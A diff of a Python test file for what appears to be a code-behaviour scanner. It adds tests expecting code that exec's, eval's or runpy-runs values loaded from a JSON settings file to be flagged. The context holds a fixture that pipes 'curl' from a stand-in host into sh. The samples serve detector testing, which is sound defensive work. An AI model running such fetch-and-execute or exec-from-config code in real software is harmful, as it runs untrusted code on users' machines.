@@ -170,6 +170,27 @@ def test_compiled_modules_are_left_out() -> None:
     assert OwnFiles(["a.py", "b.cpython-311.so"]).digest == OwnFiles(["a.py", "c.so.1"]).digest
 
 
+SETTINGS = (
+    "import json, logging.config, runpy\nwith open('pkg/x.json') as f:\n    C = json.load(f)\n"
+)
+
+
+def test_a_file_whose_place_settings_tell_is_unknown() -> None:
+    code = f"{SETTINGS}logging.config.fileConfig(C.get('logging'))\n"
+
+    assert behaviours(code, whole=False, own=OWN) == []
+    assert rules(code) == {"runs-own-data"}, "in a build, where nobody can tell which it is"
+
+
+@pytest.mark.parametrize(
+    "code", ["exec(C['code'])", "runpy.run_path(C.get('x', 'notes.txt'))", "eval(C['a'])"]
+)
+def test_code_that_stands_in_settings_is_run(code: str) -> None:
+    assert "runs-own-data" in {
+        each.rule for each in behaviours(f"{SETTINGS}{code}\n", whole=False, own=OWN)
+    }
+
+
 FETCHES = "#!/bin/sh\nset -e\ncurl -s https://a.example/x | sh\n"
 STARTS = (
     "import os, subprocess\n"
